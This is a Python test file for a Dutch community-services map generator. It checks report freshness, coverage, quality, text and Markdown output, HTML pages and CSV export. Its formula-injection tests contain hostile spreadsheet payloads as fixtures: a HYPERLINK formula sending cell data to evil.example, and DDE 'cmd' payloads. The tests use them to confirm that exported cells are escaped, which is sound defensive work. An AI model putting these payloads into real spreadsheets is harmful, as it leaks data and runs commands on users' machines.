"""`sociale-kaart rapport`: freshness, coverage and quality on the fixture kaart."""

from __future__ import annotations

import csv
import json
import shutil
from datetime import date, datetime
from pathlib import Path

import html5lib

from sociale_kaart.cli import main
from sociale_kaart.model.freshness import months_between
from sociale_kaart.outputs.rapport.data import GEEN_BEHEERDER, rapport_data
from sociale_kaart.outputs.rapport.formats import csv_tables, format_markdown, format_text, write_csv
from sociale_kaart.outputs.rapport.pages import rapport_csv_files, rapport_pages
from sociale_kaart.pipeline.load import load_content
from sociale_kaart.pipeline.resolve import check
from sociale_kaart.pipeline.yaml_loader import load_file

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "tests" / "fixtures" / "kaart"
LATER = date(2027, 11, 22)  # a year after the fixtures were checked: plenty is stale
REPO = "https://github.com/voorbeeld/sociale-kaart"


def kaart_on(day: date, repository: str | None = None, content: Path = FIXTURES):
    kaart, diags = check(load_content(content), day)
    assert kaart is not None, [d.text() for d in diags if d.is_error]
    if repository:
        kaart.site = kaart.site.model_copy(update={"repository": repository})
    return kaart


def raw_entries(folder: str) -> list[tuple[str, str, dict]]:
    """(gemeente, slug, data) read straight from the fixture files, independent of rapport.py."""
    out = []
    for path in sorted((FIXTURES / folder).rglob("*")):
        if path.is_file():
            doc, _ = load_file(path, path.as_posix())
            gemeente = path.parent.name if path.parent.name != folder else ""
            out.append((gemeente, path.stem, doc.data))
    return out


# --------------------------------------------------------------------------- freshness

def test_months_between() -> None:
    assert months_between(date(2026, 1, 31), date(2026, 3, 1)) == 1
    assert months_between(date(2025, 1, 10), date(2027, 11, 22)) == 34


def test_stale_entries_per_gemeente_oldest_first() -> None:
    r = rapport_data(kaart_on(LATER))
    by = {g.gemeente: g for g in r.versheid}
    assert by["heuveldorp"].termijn_maanden == 6 and by["vechtstad"].termijn_maanden == 12
    for g in r.versheid:
        # The fixture's entries are all confirmed with their organisation: each counts from its check.
        assert {v.basis for v in g.verouderd} == {"controle"}
        dates = [v.sinds for v in g.verouderd]
        assert dates == sorted(dates)
        limit = {"heuveldorp": date(2027, 5, 22), "vechtstad": date(2026, 11, 22)}[g.gemeente]
        assert all(d < limit for d in dates)
    # Every activity and place of Vechtstad whose date is before the limit is listed.
    expected = {slug for g, slug, data in raw_entries("activiteiten") + raw_entries("ontmoetingsplekken")
                if g == "vechtstad" and date.fromisoformat(str(data["laatst_gecontroleerd"]))
                < date(2026, 11, 22) and data.get("status", "actief") != "gestopt"}
    listed = {v.item.slug for v in by["vechtstad"].verouderd if v.item.soort != "organisatie"}
    assert listed == expected and expected


def test_nothing_stale_right_after_checking() -> None:
    r = rapport_data(kaart_on(date(2026, 11, 22)))
    stale = {v.item.slug for g in r.versheid for v in g.verouderd}
    assert stale == {"vriendendienst"}  # checked 2025-01-10: the only old one


def test_edit_links_only_with_a_repository() -> None:
    without = rapport_data(kaart_on(LATER))
    assert all(v.item.bewerken is None for g in without.versheid for v in g.verouderd)
    with_repo = rapport_data(kaart_on(LATER, REPO))
    items = [v.item for g in with_repo.versheid for v in g.verouderd]
    assert items
    for item in items:
        assert item.bestand.startswith("content/")
        assert item.bewerken == f"{REPO}/edit/main/{item.bestand}"
        assert (FIXTURES / item.bestand.removeprefix("content/")).is_file()


def test_file_names_are_repository_paths_wherever_the_content_was_loaded_from(tmp_path: Path) -> None:
    """model/kinds.content_path: 'content/<folder>[/<gemeente>]/<file>' for every kind, also for
    a content folder with another name outside the working directory."""
    from sociale_kaart.model.kinds import content_folder, content_path

    content = tmp_path / "elders" / "inhoud"
    shutil.copytree(FIXTURES, content)
    kaart = kaart_on(date(2026, 11, 22), content=content)
    entries = [*kaart.gemeenten.values(), *kaart.organisaties.values(), *kaart.praktijken.values(),
               *(e for per in (kaart.activiteiten, kaart.plekken) for g in per.values() for e in g.values())]
    assert {type(e).__name__ for e in entries} == {"Gemeente", "Organisatie", "Praktijk",
                                                   "Activiteit", "Ontmoetingsplek"}
    for entry in entries:
        on_disk = Path(entry.file).resolve().relative_to(content.resolve()).as_posix()
        assert content_path(entry) == f"content/{on_disk}"
        assert content_path(entry, "site/content") == f"site/content/{on_disk}"
        assert content_path(entry, "") == on_disk
    assert content_folder("activiteit", "vechtstad") == "content/activiteiten/vechtstad"
    assert content_folder("organisatie", "vechtstad") == "content/organisaties"


def test_per_maintainer_lists_each_file_once() -> None:
    r = rapport_data(kaart_on(LATER))
    by = {b.beheerder: b for b in r.per_beheerder}
    assert set(by) == {"@heuveldorp", "@vechtstad-beheer", "@welzijn-vechtstad/redactie"}
    assert by["@vechtstad-beheer"].gemeenten == ["vechtstad"]
    files = [v.item.bestand for v in by["@vechtstad-beheer"].verouderd]
    assert len(files) == len(set(files))
    assert GEEN_BEHEERDER not in by


# --------------------------------------------------------------------------- coverage

def test_coverage_counts_active_activities_per_theme_and_group() -> None:
    r = rapport_data(kaart_on(date(2026, 11, 22)))
    themes, groups = r.dekking
    assert themes.vocabulaire == "themas" and groups.vocabulaire == "doelgroepen"
    acts = raw_entries("activiteiten")
    for d, attr in ((themes, "themas"), (groups, "doelgroepen")):
        for term in d.termen:
            for g in d.gemeenten:
                expected = sum(1 for gm, _, data in acts if gm == g.slug
                               and data.get("status", "actief") == "actief"
                               and term.slug in (data.get(attr) or []))
                cel = d.cellen[term.slug][g.slug]
                assert cel.aantal == expected, (term.slug, g.slug)
                assert (cel.niveau == 0) == (expected == 0)
                assert 0 <= cel.niveau <= 4
        top = max(c.aantal for row in d.cellen.values() for c in row.values())
        assert any(c.niveau == 4 and c.aantal == top for row in d.cellen.values()
                   for c in row.values())
    assert themes.cellen["ontmoeting"]["vechtstad"].aantal >= 1
    assert "ontmoeting" in themes.witte_vlekken["heuveldorp"] or \
        themes.cellen["ontmoeting"]["heuveldorp"].aantal > 0


def test_csv_files(tmp_path: Path) -> None:
    r = rapport_data(kaart_on(LATER, REPO))
    written = write_csv(r, tmp_path)
    assert sorted(p.name for p in written) == ["coverage.csv", "kwaliteit.csv", "verouderd.csv"]
    raw = (tmp_path / "coverage.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read UTF-8 correctly
    with (tmp_path / "coverage.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    themes = r.dekking[0]
    assert len(rows) == sum(len(d.termen) * len(d.gemeenten) for d in r.dekking)
    row = next(x for x in rows if x["term"] == "ontmoeting" and x["gemeente"] == "vechtstad")
    assert int(row["aantal_actief"]) == themes.cellen["ontmoeting"]["vechtstad"].aantal
    with (tmp_path / "verouderd.csv").open(encoding="utf-8-sig", newline="") as fh:
        stale = list(csv.DictReader(fh, delimiter=";"))
    assert len(stale) == r.aantal_verouderd
    assert all(x["bewerken"].startswith(REPO) for x in stale)


# --------------------------------------------------------------------------- quality

def test_quality_lists() -> None:
    r = rapport_data(kaart_on(date(2026, 11, 22)))
    q = {k.gemeente: k for k in r.kwaliteit}
    no_times = {i.slug for i in q["vechtstad"].zonder_tijden}
    expected = {slug for g, slug, data in raw_entries("activiteiten")
                if g == "vechtstad" and not data.get("wanneer")
                and data.get("status", "actief") == "actief"}
    expected |= {slug for g, slug, data in raw_entries("ontmoetingsplekken")
                 if g == "vechtstad" and not data.get("openingstijden")}
    assert no_times == expected
    no_access = {i.slug for k in r.kwaliteit for i in k.zonder_toegankelijkheid}
    expected_access = {slug for _, slug, data in raw_entries("activiteiten") + raw_entries("ontmoetingsplekken")
                       if not data.get("toegankelijkheid") and not data.get("toegankelijkheid_toelichting")
                       and data.get("status") != "gestopt"}
    assert no_access == expected_access
    # The koffie-inloop has a contact; the digicafé's organiser has a phone number.
    no_contact = {i.slug for k in r.kwaliteit for i in k.zonder_contact}
    assert "koffie-inloop" not in no_contact


def test_contact_means_telephone_email_or_website() -> None:
    """model/entries.has_contact: the rule of 'zonder contact' and of Contact.is_empty."""
    from sociale_kaart.model.entries import Aanmelden, Contact, has_contact

    assert not has_contact() and not has_contact(None, Contact(naam="Balie"))
    assert Contact(naam="Balie").is_empty
    for field, value in (("telefoon", "038 123 4567"), ("email", "info@voorbeeld.nl"),
                         ("website", "https://voorbeeld.nl")):
        contact = Contact(**{field: value})
        assert has_contact(None, contact) and not contact.is_empty
        assert has_contact(Aanmelden(nodig=True, **{field: value}))


# --------------------------------------------------------------------------- text outputs

def test_text_and_markdown() -> None:
    r = rapport_data(kaart_on(LATER, REPO))
    text = format_text(r)
    assert "Vechtstad" in text and "Heuveldorp" in text and "VERSHEID" in text
    assert "DEKKING" in text and "KWALITEIT" in text
    md = format_markdown(r, ["versheid"])
    assert md.count("- [ ] ") == r.aantal_verouderd
    assert "@vechtstad-beheer" in md
    assert f"]({REPO}/edit/main/content/" in md
    assert "## Actieve activiteiten per thema" not in md
    assert "geen verouderde vermeldingen" not in md


def test_markdown_fits_in_a_github_issue() -> None:
    r = rapport_data(kaart_on(LATER, REPO))
    full = format_markdown(r, ["versheid"])
    short = format_markdown(r, ["versheid"], max_chars=len(full) - 1)
    assert len(short) < len(full)
    assert "en nog" in short
    # the oldest entry of each gemeente is kept
    for g in r.versheid:
        if g.verouderd:
            assert g.verouderd[0].item.bestand in short
    assert format_markdown(r, ["versheid"], max_chars=len(full)) == full


def test_markdown_when_nothing_is_stale(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    org = content / "organisaties" / "vriendendienst.yaml"
    org.write_text(org.read_text(encoding="utf-8").replace("2025-01-10", "2026-10-01"),
                   encoding="utf-8")
    r = rapport_data(kaart_on(date(2026, 11, 22), content=content))
    assert r.aantal_verouderd == 0
    fresh = format_markdown(r, ["versheid"])
    assert "geen verouderde vermeldingen" in fresh and "- [ ]" not in fresh


def test_one_month_is_singular_everywhere(tmp_path: Path) -> None:
    """A term (and an age) of 1 month reads '1 maand' in the text, the Markdown and the pages."""
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    gemeente = content / "gemeenten" / "heuveldorp.yaml"
    gemeente.write_text(gemeente.read_text(encoding="utf-8").replace(
        "controle_termijn_maanden: 6", "controle_termijn_maanden: 1"), encoding="utf-8")
    for path in content.glob("*/heuveldorp/*.yaml"):
        path.write_text(path.read_text(encoding="utf-8").replace(
            "laatst_gecontroleerd: 2026-08-01", "laatst_gecontroleerd: 2026-10-01"), encoding="utf-8")
    kaart = kaart_on(date(2026, 11, 22), content=content)
    r = rapport_data(kaart)
    assert any(v.maanden == 1 for g in r.versheid for v in g.verouderd)
    text, md = format_text(r), format_markdown(r)
    page = render_pages(kaart)["rapport/heuveldorp/index.html"]
    assert "Heuveldorp: " in text and "(termijn 1 maand)" in text
    assert "Termijn: 1 maand." in md and "(1 maand): " in md
    assert "Controletermijn: 1 maand." in page and "langer dan 1 maand geleden nagevraagd" in page
    for output in (text, md, page):
        assert "1 maanden" not in output


def test_cli_formats(capsys, tmp_path: Path) -> None:
    assert main(["rapport", "--content", str(FIXTURES), "--vandaag", "2027-11-22"]) == 0
    assert "VERSHEID" in capsys.readouterr().out
    assert main(["rapport", "--content", str(FIXTURES), "--vandaag", "2027-11-22",
                 "--format", "json", "--csv", str(tmp_path)]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["aantal_verouderd"] == sum(len(g["verouderd"]) for g in data["versheid"])
    assert (tmp_path / "coverage.csv").is_file()


def test_cli_refuses_broken_content(capsys, tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    (content / "gemeenten" / "vechtstad.yaml").write_text("naam: [kapot\n", encoding="utf-8")
    assert main(["rapport", "--content", str(content)]) == 1
    err = capsys.readouterr().err
    assert "Geen rapport" in err and "vechtstad.yaml" in err and "Traceback" not in err


# --------------------------------------------------------------------------- site pages

def render_pages(kaart) -> dict[str, str]:
    from sociale_kaart.site.pages import Page
    from sociale_kaart.site.render import Renderer
    from sociale_kaart.site.theme import Assets, make_environment, theme_dirs

    dirs = theme_dirs("default", None)
    renderer = Renderer(kaart, make_environment(dirs), Assets.load(dirs))
    out = {}
    for path, ctx in rapport_pages(rapport_data(kaart)):
        page = Page(path, "rapport.html", {"gemeente": None, "g": "",
                                           "build_time": datetime(2027, 11, 22, 6), **ctx})
        out[path] = renderer.render(page).decode("utf-8")
    return out


def test_pages_render_as_valid_html_outside_search() -> None:
    kaart = kaart_on(LATER, REPO)
    pages = render_pages(kaart)
    assert set(pages) == {"rapport/index.html", "rapport/heuveldorp/index.html",
                          "rapport/vechtstad/index.html"}
    parser = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
    for path, html in pages.items():
        parser.parse(html)  # raises on a parse error
        assert "data-pagefind-body" not in html, path
        assert '<meta name="robots" content="noindex">' in html
        assert '<th scope="col">' in html


def test_coverage_table_has_numbers_not_only_colour() -> None:
    kaart = kaart_on(date(2026, 11, 22))
    html = render_pages(kaart)["rapport/index.html"]
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    tables = tree.findall(".//table[@class='dekking']")
    assert len(tables) == 2
    r = rapport_data(kaart)
    for table, d in zip(tables, r.dekking, strict=True):
        rows = table.findall("./tbody/tr")
        assert len(rows) == len(d.termen)
        for tr, term in zip(rows, d.termen, strict=True):
            th = tr.find("th")
            assert th.get("scope") == "row" and th.text == term.label
            for td, g in zip(tr.findall("td"), d.gemeenten, strict=True):
                cel = d.cellen[term.slug][g.slug]
                assert f"dekking-{cel.niveau}" in td.get("class")
                assert "".join(td.itertext()).startswith(str(cel.aantal))


def test_gemeente_page_lists_stale_entries_with_edit_links() -> None:
    kaart = kaart_on(LATER, REPO)
    html = render_pages(kaart)["rapport/vechtstad/index.html"]
    r = rapport_data(kaart)
    vecht = next(g for g in r.versheid if g.gemeente == "vechtstad")
    positions = [html.index(f'href="{v.item.bewerken}"') for v in vecht.verouderd]
    assert positions == sorted(positions)  # oldest first on the page too
    assert 'href="../"' in html  # back to the overview, relative


def test_overview_links_every_report_page(tmp_path: Path) -> None:
    """Also the page of the organisations without a gemeente (rapport/zonder-gemeente/)."""
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    (content / "organisaties" / "overal.yaml").write_text(
        "naam: Overal\nsoort: vrijwilligersorganisatie\nemail: info@overal.example.nl\n"
        "laatst_gecontroleerd: 2020-01-01\ngecontroleerd_door: beheerder\nbron: {titel: Test}\n", encoding="utf-8")
    pages = render_pages(kaart_on(LATER, content=content))
    assert "rapport/zonder-gemeente/index.html" in pages
    overview = html5lib.parse(pages["rapport/index.html"], namespaceHTMLElements=False)
    links = {a.get("href") for a in overview.iter("a")}
    for path in pages:
        if path != "rapport/index.html":
            assert path.removeprefix("rapport/").removesuffix("index.html") in links, path


def test_csv_files_for_the_site_match_the_report() -> None:
    kaart = kaart_on(LATER)
    files = dict(rapport_csv_files(rapport_data(kaart)))
    assert set(files) == {f"rapport/{name}" for name in csv_tables(rapport_data(kaart))}
    index_ctx = dict(rapport_pages(rapport_data(kaart)))["rapport/index.html"]
    assert [f"rapport/{n}" for n in index_ctx["csv_bestanden"]] == list(files)


# --------------------------------------------------------------------------- formula injection

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Klik")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def _formula_cell(cell: str) -> bool:
    """What a spreadsheet runs as a formula (checked here without sociale_kaart.csvsafe)."""
    import re

    first = cell.lstrip()
    if cell[:1] in ("\t", "\r"):
        return True
    return first[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[+-]?(\d+([.,]\d+)?)?", first)


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    for i, title in enumerate(FORMULAS):  # stale and without contact: in two CSV files
        (content / f"activiteiten/vechtstad/formule-{i}.yaml").write_text(
            f"titel: {json.dumps(title)}\nsamenvatting: Test.\nplek: buurthuis-de-brug\n"
            "laatst_gecontroleerd: 2020-01-01\ngecontroleerd_door: beheerder\nbron: {titel: Test}\n", encoding="utf-8")
    gemeente = content / "gemeenten/heuveldorp.yaml"
    gemeente.write_text(gemeente.read_text(encoding="utf-8").replace(
        "naam: Heuveldorp", 'naam: "=1+1"'), encoding="utf-8")
    kaart = kaart_on(LATER, content=content)
    tables = [(tmp_path / "uit" / p.name).read_text(encoding="utf-8-sig")
              for p in write_csv(rapport_data(kaart), tmp_path / "uit")]
    tables += [raw.decode("utf-8-sig") for _, raw in rapport_csv_files(rapport_data(kaart))]
    cells = [c for text in tables for row in csv.reader(text.splitlines(), delimiter=";")
             for c in row]
    assert [c for c in cells if c and _formula_cell(c)] == []
    for title in FORMULAS:  # still there, readable, as text
        assert "'" + title in cells, title
    assert "'=1+1" in cells  # the gemeente name


def test_safe_cell() -> None:
    from sociale_kaart.csvsafe import csv_text, safe_cell

    for risky in ("=A1", "+A1", "-A1", "@A1", "\tx", "\r=1", " =1+1", "\n@SUM(A1)", "-2+3",
                  "+31 6 12345678"):
        assert safe_cell(risky) == "'" + risky, risky
    for plain in ("-2", "+3", "-2,50", "12.5", "0", "", "-", "Koffie", "a=b", "'=1"):
        assert safe_cell(plain) == plain, plain
    assert csv_text([["=1", 2, None]]) == "'=1;2;\r\n"


def test_every_csv_writer_goes_through_csvsafe() -> None:
    generator = ROOT / "sociale_kaart"
    writers = sorted(p.name for p in generator.rglob("*.py")
                     if any(w in p.read_text(encoding="utf-8")
                            for w in ("csv.writer(", "csv.DictWriter(", "csv.writer ")))
    assert writers == ["csvsafe.py"]
